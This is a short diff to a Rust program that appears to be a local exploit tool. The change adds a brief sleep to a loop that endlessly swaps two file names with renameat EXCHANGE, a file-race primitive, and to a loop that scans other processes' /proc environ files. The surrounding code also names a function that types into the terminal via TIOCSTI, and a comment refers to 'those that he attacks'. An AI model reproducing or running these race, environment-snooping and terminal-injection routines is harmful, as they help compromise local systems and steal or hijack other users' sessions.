@@ -72,8 +72,15 @@ unsafe extern "C" {
 
 /// Exchanges two names for ever.
 fn swap(one: &str, other: &str) -> bool {
-    while renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).is_ok() {}
+    while renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).is_ok() {
+        breathe();
+    }
     panic!("{one} and {other} cannot be exchanged");
+}
+
+/// On a machine of one CPU, who never rests takes half of it from those that he attacks.
+fn breathe() {
+    std::thread::sleep(std::time::Duration::from_micros(50));
 }
 
 /// Types into the terminal that is the standard input (TIOCSTI).
@@ -267,6 +274,7 @@ fn look(text: &str) -> bool {
     let text = text.to_uppercase();
     let own = std::process::id().to_string();
     loop {
+        breathe();
         for entry in fs::read_dir("/proc").unwrap().flatten() {
             let is_process = entry.file_name().to_str().is_some_and(|name| name != own && name.parse::<u32>().is_ok());
             let environ = entry.path().join("environ");
